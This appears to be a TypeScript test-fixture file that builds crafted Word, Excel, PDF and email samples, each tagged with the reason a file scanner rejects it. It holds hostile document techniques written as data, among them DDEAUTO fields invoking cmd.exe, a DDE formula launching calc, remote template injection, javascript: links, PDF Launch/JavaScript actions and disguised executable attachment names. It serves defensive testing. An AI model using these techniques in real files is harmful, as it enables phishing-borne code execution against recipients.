// Ways to bring something along in a file, by kind, each with the reason of its refusal. Each is built as the format's specification
// allows it, and differs from an ordinary file in one place.
import type { Danger } from "#content/files/effort.ts";
import { compound } from "./compound.ts";
import { attach, mail, message, multipart } from "./mail.ts";
import {
  attachment,
  messageStorage,
  officePackage,
  type PackageOptions,
  wordDocument,
  wordText,
  workbook,
} from "./office.ts";
import { packed, paper, pdf } from "./pdf.ts";
import { zip } from "./zip.ts";

export type Trick = [what: string, name: string, danger: Danger, content: Uint8Array];
const [UNSAFE, OUTSIDE, ATTACHED, COMPLEX] = [
  "file_unsafe",
  "file_unsafe.external",
  "file_unsafe.attachment",
  "file_unsafe.complex",
] as const;

const word = (danger: Danger, what: string, options: PackageOptions): Trick => [
  what,
  "a.docx",
  danger,
  officePackage("docx", options),
];
const excel = (danger: Danger, what: string, options: PackageOptions): Trick => [
  what,
  "a.xlsx",
  danger,
  officePackage("xlsx", options),
];
const related = (type: string, target: string, isExternal = false): PackageOptions => ({
  relations: [{ type, target, isExternal }],
});
const DOCUMENT = "application/vnd.openxmlformats-officedocument.";
/** A part of a type that is not needed. */
const typed = (path: string, type: string): PackageOptions => ({
  members: { [path]: "<x/>" },
  types: { [path]: type },
});
const inText = (xml: string): PackageOptions => ({
  members: { "word/document.xml": `<w:document>${xml}</w:document>` },
});
const field = (...pieces: string[]) =>
  `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join("")}<w:fldChar w:fldCharType="separate"/>1<w:fldChar w:fldCharType="end"/>`;
const inSheet = (xml: string): PackageOptions => ({
  members: { "xl/worksheets/sheet1.xml": `<worksheet>${xml}</worksheet>` },
  types: { "xl/worksheets/sheet1.xml": `${DOCUMENT}spreadsheetml.worksheet+xml` },
});
const formula = (text: string) => inSheet(`<c r="A1"><f>${text}</f></c>`);

const OFFICE: Trick[] = [
  word(UNSAFE, "a page inserted by Word (altChunk)", related("aFChunk", "page.html")),
  word(UNSAFE, "a page inserted by Word, by its type", typed("word/page.html", "text/html")),
  word(UNSAFE, "a text in RTF", typed("word/a.rtf", "application/rtf")),
  word(UNSAFE, "a page as a document", typed("word/a.dat", "application/xhtml+xml")),
  word(
    OUTSIDE,
    "a template by a scheme of a program",
    related("attachedTemplate", "ms-word:ofe|u|https://a.example", true),
  ),
  word(OUTSIDE, "a template on a share", related("attachedTemplate", "\\\\a.example\\t.dotm", true)),
  word(OUTSIDE, "a template behind escapes", related("attachedTemplate", "%5c%5ca.example/t.dotm", true)),
  word(OUTSIDE, "a source of a merge", related("mailMergeSource", "file:///\\\\a.example\\a.csv", true)),
  word(OUTSIDE, "the headers of a merge", related("mailMergeHeaderSource", "https://a.example/a.csv", true)),
  word(OUTSIDE, "a document below it", related("subDocument", "https://a.example/a.docx", true)),
  word(OUTSIDE, "a frame", related("frame", "https://a.example", true)),
  word(OUTSIDE, "a video", related("video", "https://a.example", true)),
  word(OUTSIDE, "a transformation", related("transform", "https://a.example/a.xsl", true)),
  word(OUTSIDE, "an inner part that is elsewhere", related("styles", "https://a.example/styles.xml")),
  word(OUTSIDE, "a link that searches", related("hyperlink", "search-ms:query=a", true)),
  word(OUTSIDE, "a link to a program on the disk", related("hyperlink", "file:///C:/Windows/calc.exe", true)),
  word(OUTSIDE, "a link to a program beside it", related("hyperlink", "setup.exe", true)),
  word(OUTSIDE, "a link behind blanks", related("hyperlink", "&#9;java&#10;script:alert(1)", true)),
  word(UNSAFE, "an embedded package", { ...related("package", "embeddings/a.xlsx") }),
  word(UNSAFE, "an add-in", typed("word/webextensions/a.xml", "application/vnd.ms-office.webextension+xml")),
  word(UNSAFE, "a ribbon", related("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "a.xml")),
  word(UNSAFE, "toolbars", typed("word/a.bin", "application/vnd.ms-word.attachedToolbars")),
  word(UNSAFE, "a control that is data", typed("word/activeX/a.bin", "application/vnd.ms-office.activeX")),
  word(UNSAFE, "an object that is data", typed("word/a.bin", `${DOCUMENT}oleObject`)),
  word(UNSAFE, "a part of no type", { members: { "word/a.bin": "x" } }),
  word(UNSAFE, "macros in a part that is not there", {
    types: { "word/%76.bin": "application/vnd.ms-office.vbaProject" },
  }),
  word(OUTSIDE, "a field that exchanges data", inText(field("DDEAUTO c:\\\\cmd.exe"))),
  word(OUTSIDE, "a field in pieces", inText(field("D", "DE", "AUTO c:\\\\cmd.exe"))),
  word(OUTSIDE, "a simple field", inText('<w:fldSimple w:instr=" dde excel a"/>')),
  word(
    OUTSIDE,
    "a field that does not end",
    inText('<w:fldChar w:fldCharType="begin"/><w:instrText>LINK Excel</w:instrText>'),
  ),
  word(
    OUTSIDE,
    "a field whose name is a field",
    inText(`${field(`</w:instrText>${field("QUOTE 68 68 69")}<w:instrText> a`)}`),
  ),
  word(OUTSIDE, "a field that includes a picture", inText(field('INCLUDEPICTURE "https://a.example/a.png" \\d'))),
  word(OUTSIDE, "a field that includes a text", inText(field("INCLUDETEXT a.docx"))),
  word(OUTSIDE, "a field with data", inText(field("DATABASE \\c a"))),
  word(OUTSIDE, "a field that prints", inText(field('PRINT "a"'))),
  word(OUTSIDE, "a field with a link", inText(field('HYPERLINK \\t "_blank" "\\\\\\\\a.example\\\\a"'))),
  word(OUTSIDE, "a merge in the settings", inText("<w:mailMerge><w:connectString/></w:mailMerge>")),
  word(OUTSIDE, "a picture of an old drawing", inText('<v:imagedata src="\\\\a.example\\a.png"/>')),
  word(UNSAFE, "a video of the web", inText('<wp15:webVideoPr embeddedHtml="&lt;iframe>"/>')),
  excel(UNSAFE, "connections", typed("xl/connections.xml", `${DOCUMENT}spreadsheetml.connections+xml`)),
  excel(UNSAFE, "a query", typed("xl/queryTables/a.xml", `${DOCUMENT}spreadsheetml.queryTable+xml`)),
  excel(
    UNSAFE,
    "a link to a program (DDE)",
    typed("xl/externalLinks/a.xml", `${DOCUMENT}spreadsheetml.externalLink+xml`),
  ),
  excel(UNSAFE, "a dialog sheet", typed("xl/a.xml", `${DOCUMENT}spreadsheetml.dialogsheet+xml`)),
  excel(UNSAFE, "values of a server", typed("xl/v.xml", `${DOCUMENT}spreadsheetml.volatileDependencies+xml`)),
  excel(
    UNSAFE,
    "a data model",
    typed("xl/model/item.data", "application/vnd.openxmlformats-officedocument.model+data"),
  ),
  excel(UNSAFE, "macros in binary", typed("xl/a.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
  excel(OUTSIDE, "a formula that exchanges data", formula("cmd|' /C calc'!A0")),
  excel(OUTSIDE, "a formula that fetches", formula("_xlfn.WEBSERVICE(&quot;https://a.example&quot;)")),
  excel(OUTSIDE, "a formula with a picture", formula('_xlfn.IMAGE("https://a.example/a.png")')),
  excel(OUTSIDE, "a formula that calls", formula('CALL("a.dll","b")')),
  excel(OUTSIDE, "a formula with a link", formula('HYPERLINK("\\\\a.example\\a","Klik")')),
  excel(OUTSIDE, "a name that fetches", inSheet('<definedName name="a">RTD("a",,"b")</definedName>')),
  [
    "two lists of types",
    "a.docx",
    COMPLEX,
    twice(officePackage("docx", { members: { "[Content_Types].xmm": "<Types/>" } }), "[Content_Types].xmm"),
  ],
];

/** Gives a member the name of another. */
function twice(archive: Buffer, name: string): Buffer {
  for (let at = archive.indexOf(name); at >= 0; at = archive.indexOf(name, at + 1))
    archive.write("l", at + name.length - 1);
  return archive;
}

const long = (text: string) => Buffer.concat([Buffer.alloc(4), Buffer.from(text, "utf16le"), Buffer.alloc(2)]);
const OLD: Trick[] = [
  ["a field of Word 97 that exchanges data", "a.doc", OUTSIDE, wordText("a\x13 DDEAUTO c:\\\\cmd.exe \x14b\x15c\r")],
  ["a field of Word 97 that includes", "a.doc", OUTSIDE, wordText('\x13INCLUDEPICTURE "https://a.example"\x14b\x15\r')],
  ["an unknown storage in Word 97", "a.doc", UNSAFE, wordDocument({}, { Extra: { a: Buffer.alloc(9) } })],
  ["controls in Excel 97", "a.xls", UNSAFE, workbook({}, { Ctls: Buffer.alloc(9) })],
  ["an object in Excel 97", "a.xls", UNSAFE, workbook({}, { MBD0001A2B3: { "\u0001Ole": Buffer.alloc(9) } })],
  [
    "a workbook elsewhere",
    "a.xls",
    OUTSIDE,
    workbook({ records: [[0x01_ae, Buffer.from("010005000001620063", "hex")]] }),
  ],
  ["a query of Excel 97", "a.xls", OUTSIDE, workbook({ records: [[0xdc, Buffer.alloc(20)]] })],
  [
    "a link of Excel 97 to a script",
    "a.xls",
    OUTSIDE,
    workbook({
      records: [
        [0x01_b8, Buffer.concat([Buffer.from("e0c9ea79f9bace118c8200aa004ba90b", "hex"), long("javascript:a")])],
      ],
    }),
  ],
];

const action = (dictionary: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${dictionary} >> >>`;
const paperWith = (danger: Danger, what: string, ...objects: Parameters<typeof paper>): Trick => [
  what,
  "a.pdf",
  danger,
  paper(...objects),
];
const PAPERS: Trick[] = [
  ...["GoToR", "GoToE", "SubmitForm", "ImportData", "Thread"].map((type) =>
    paperWith(OUTSIDE, `an action ${type}`, action(`/S /${type} /F (a.pdf)`)),
  ),
  ...[
    "Launch",
    "JavaScript",
    "Sound",
    "Movie",
    "Rendition",
    "RichMediaExecute",
    "Hide",
    "ResetForm",
    "SetOCGState",
  ].map((type) => paperWith(UNSAFE, `an action ${type}`, action(`/S /${type}`))),
  paperWith(UNSAFE, "an action of an unknown type", "<< /Type /Action /S /Something >>"),
  paperWith(UNSAFE, "a command of the reader", action("/S /Named /N /Print")),
  paperWith(UNSAFE, "a command in an object of its own", action("/S /Named /N 9 0 R")),
  paperWith(OUTSIDE, "an address that is a script", action("/S /URI /URI (javascript:alert\\(1\\))")),
  paperWith(OUTSIDE, "an address on a share", action("/S /URI /URI (\\\\\\\\a.example\\\\a)")),
  paperWith(OUTSIDE, "an address on the disk in digits", action("/S /URI /URI <66696c653a2f2f2f63>")),
  paperWith(OUTSIDE, "a base of addresses", "<< /URI << /Base (file://a.example/) >> >>"),
  paperWith(UNSAFE, "a dynamic form", "<< /XFA [(template) 5 0 R] /Fields [] >>"),
  paperWith(UNSAFE, "a dynamic form in packed objects", packed(["<< /XFA 5 0 R >>"])),
  paperWith(UNSAFE, "a dynamic form with an escape", "<< /X#46A 5 0 R >>"),
  paperWith(UNSAFE, "a script of a field", "<< /AA << /K << /JS 5 0 R >> >> >>"),
  ...["FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D"].map((type) =>
    paperWith(UNSAFE, `an annotation ${type}`, `<< /Type /Annot /Subtype /${type} >>`),
  ),
  paperWith(UNSAFE, "an annotation without its type", "<< /Subtype /3D /Rect [0 0 9 9] >>"),
  paperWith(OUTSIDE, "a stream that is elsewhere", {
    dictionary: "/F (\\\\\\\\a.example\\\\a)",
    stream: Buffer.alloc(0),
  }),
  paperWith(OUTSIDE, "a file elsewhere", "<< /Type /Filespec /F (a.pdf) >>"),
  paperWith(OUTSIDE, "a file on the web", "<< /FS /URL /F (https://a.example/a.pdf) >>"),
  paperWith(OUTSIDE, "a page of another file", {
    dictionary: "/Subtype /Form /Ref << /F 5 0 R >>",
    stream: Buffer.alloc(0),
  }),
  paperWith(COMPLEX, "arrays in arrays", "[".repeat(300)),
  [
    "a catalog in the trailer",
    "a.pdf",
    UNSAFE,
    pdf("<< >>", "trailer << /Root << /OpenAction << /S /JavaScript >> >> >>"),
  ],
];

const mailOf = (danger: Danger, what: string, ...parts: string[]): Trick => [
  what,
  "a.eml",
  danger,
  Buffer.from(message(multipart("mixed", parts))),
];
const script = { name: "a.js", content: Buffer.from("x") };
const PNG_TYPE = "Content-Type: image/png\r\n";
const MAILS: Trick[] = [
  mailOf(ATTACHED, "a program in a text (uuencode)", "\r\nHallo\r\nbegin 644 setup.exe\r\n#86)C\r\n`\r\nend\r\n"),
  mailOf(
    ATTACHED,
    "a program in a text (yEnc)",
    "\r\n=ybegin line=128 size=3 name=setup.exe\r\nabc\r\n=yend size=3\r\n",
  ),
  mailOf(ATTACHED, "a program in a text (BinHex)", "\r\n(This file must be converted with BinHex 4.0)\r\n:a:\r\n"),
  mailOf(ATTACHED, "a part of an unknown kind without a name", "Content-Type: application/octet-stream\r\n\r\nx"),
  mailOf(
    ATTACHED,
    "a part elsewhere",
    'Content-Type: message/external-body; access-type=URL; URL="https://a.example"\r\n\r\nx',
  ),
  mailOf(ATTACHED, "a part of a mail", "Content-Type: message/partial; id=a; number=1\r\n\r\nx"),
  mailOf(ATTACHED, "an encrypted mail", "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nx"),
  mailOf(
    ATTACHED,
    "a mail called as a page",
    'Content-Type: message/rfc822; name="a.hta"\r\n\r\nFrom: a\r\nTo: b\r\n\r\nx',
  ),
  mailOf(ATTACHED, "a name with blanks", "Content-Disposition: attachment; filename=a.pdf .exe\r\n\r\nx"),
  mailOf(ATTACHED, "a name by bytes", "Content-Disposition: attachment; filename*=utf-8''a%2Ejs\r\n\r\nx"),
  mailOf(
    ATTACHED,
    "another name with a star",
    "Content-Disposition: attachment; filename=a.txt; filename*=utf-8''a%2Ejs\r\n\r\nx",
  ),
  mailOf(
    ATTACHED,
    "another name by its type",
    'Content-Type: text/plain; name="a.js"\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\nx',
  ),
  mailOf(ATTACHED, "a name that a sign ends", 'Content-Type: text/plain; name="a.exe=?utf-8?Q?=00?=.txt"\r\n\r\nx'),
  mailOf(COMPLEX, "two names", 'Content-Type: text/plain; name="a.txt"; name="a.js"\r\n\r\nx'),
  mailOf(COMPLEX, "two types", `${PNG_TYPE}Content-Type: text/html\r\n\r\nx`),
  mailOf(COMPLEX, "an unusual encoding", "Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nx"),
  mailOf(
    COMPLEX,
    "a boundary that is not there",
    "Content-Type: multipart/mixed; boundary=b\r\n\r\n--c\r\n\r\nx\r\n--c--\r\n",
  ),
  mailOf(
    COMPLEX,
    "two boundaries",
    "Content-Type: multipart/mixed; boundary=b; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--\r\n",
  ),
  ["a script in a mail in a mail", "a.eml", ATTACHED, mail({ name: "b.eml", content: mail(script) })],
  [
    "a script in an archive in an archive",
    "a.eml",
    ATTACHED,
    mail({ name: "b.zip", content: zip({ "c.zip": zip({ "a.js": "x" }) }) }),
  ],
  [
    "a page between attachments with a script",
    "a.eml",
    "file_content" as Danger,
    mail({ name: "ATT00001.htm", content: Buffer.from("<html><script>a</script></html>") }),
  ],
  [
    "a file of the Mac that is none",
    "a.eml",
    "file_content" as Danger,
    mail({ name: "a.zip", content: zip({ "__MACOSX/._a.exe": "x" }) }),
  ],
  ["an object in a mail of Outlook", "a.msg", UNSAFE, compound(messageStorage([attachment(script, 6)]))],
  [
    "an attachment of Outlook elsewhere",
    "a.msg",
    OUTSIDE,
    compound(messageStorage([attachment({ name: "a.pdf", content: paper() }, 4)])),
  ],
  [
    "an unknown storage in a mail of Outlook",
    "a.msg",
    UNSAFE,
    compound({ ...messageStorage([]), Macros: { a: Buffer.alloc(9) } }),
  ],
  [
    "a picture that is a page",
    "a.eml",
    "file_content" as Danger,
    Buffer.from(message(multipart("mixed", [attach({ name: "a.png", content: Buffer.from("<html>") })]))),
  ],
];

export const TRICKS: Trick[] = [...OFFICE, ...OLD, ...PAPERS, ...MAILS];
